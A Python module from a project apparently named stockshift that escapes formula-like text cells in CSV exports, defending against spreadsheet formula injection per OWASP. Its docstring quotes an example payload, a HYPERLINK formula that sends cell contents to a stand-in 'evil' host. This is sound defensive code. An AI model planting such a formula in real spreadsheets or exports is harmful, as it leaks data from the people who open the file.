"""Text cells of every CSV stockshift writes, safe to open in a spreadsheet (OWASP CSV injection).

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return
as a formula, so an id such as ``=HYPERLINK("http://evil/?"&A1)`` in an input file would run on
the planner's machine when they open ``transfers.csv``. Following OWASP, such a text cell is
written with a single quote in front (``'=HYPERLINK(...)``) and enclosed in double quotes.
Numeric columns are written as numbers: ``-3`` in a quantity column is a number, not a
formula, and stays as it is.

The readers (:func:`stockshift.io.tables.text`) drop that quote again, so a file stockshift
wrote reads back with the same ids. The dashboard's copy of this rule is web/src/lib/csv.ts.
"""

from __future__ import annotations

import re
import uuid
from typing import Any, TextIO

import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.compute as pc

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_TRIGGER_RE = "^[=+\\-@\\t\\r]"
_QUOTED_RE = "^'([=+\\-@\\t\\r])"


def neutralise(cell: str) -> str:
    """``cell`` with a single quote in front if a spreadsheet would run it as a formula."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def neutralise_texts(values: pa.Array | pa.ChunkedArray) -> pa.Array | pa.ChunkedArray:
    """:func:`neutralise` over an Arrow text column, vectorised."""
    risky = pc.match_substring_regex(values, _TRIGGER_RE)
    if not pc.any(risky).as_py():
        return values
    return pc.if_else(risky, pc.binary_join_element_wise("'", values, ""), values)


def restore_texts(values: pa.ChunkedArray) -> pa.ChunkedArray:
    """Undo :func:`neutralise_texts` on read: ``'=x`` is ``=x`` (any other leading quote stays)."""
    if not pc.any(pc.starts_with(values, "'")).as_py():
        return values
    return pc.replace_substring_regex(values, _QUOTED_RE, "\\1")


TEXT_KINDS = frozenset({"string", "mixed", "mixed-integer", "bytes"})


def _is_text(series: pd.Series[Any]) -> bool:
    """Whether a column holds text (ids, names, reasons), not numbers that may be missing."""
    if isinstance(series.dtype, pd.CategoricalDtype):
        return pd.api.types.infer_dtype(series.cat.categories, skipna=True) in TEXT_KINDS
    return pd.api.types.infer_dtype(series, skipna=True) in TEXT_KINDS


def _neutralised_cells(frame: pd.DataFrame, marker: str) -> tuple[pd.DataFrame, list[str]]:
    """``frame`` with each formula-like text cell replaced by a marker, and the CSV text of
    those cells (quote-prefixed, enclosed in double quotes), indexed by the marker's number."""
    out: pd.DataFrame | None = None
    cells: list[str] = []
    for name in frame.columns:
        col = frame[name]
        if not _is_text(col):
            continue
        text = col.astype(object).where(col.notna(), "").astype(str)
        risky = text.str.startswith(FORMULA_TRIGGERS).to_numpy(bool)
        if not risky.any():
            continue
        if out is None:
            out = frame.copy()
        values = text.to_numpy(object)
        for i in np.flatnonzero(risky):
            cell = "'" + values[i]
            cells.append('"' + cell.replace('"', '""') + '"')
            values[i] = f"{marker}{len(cells) - 1}:"
        out[name] = values
    return (frame if out is None else out), cells


def write_frame(frame: pd.DataFrame, fh: TextIO) -> None:
    """Write ``frame`` as CSV (header row, ``\\n`` line ends), formula-like text cells
    neutralised and quoted, numbers as numbers. Every CSV export of stockshift goes through here.

    The frame is written by pandas as usual; the few neutralised cells go in afterwards, in
    place of unique markers, because the CSV writer can quote whole columns but not one cell.
    """
    marker = f"\x00{uuid.uuid4().hex}:"
    safe, cells = _neutralised_cells(frame, marker)
    if not cells:
        frame.to_csv(fh, index=False, lineterminator="\n")
        return
    body = safe.to_csv(index=False, lineterminator="\n")
    fh.write(re.sub(re.escape(marker) + "([0-9]+):", lambda m: cells[int(m[1])], body))
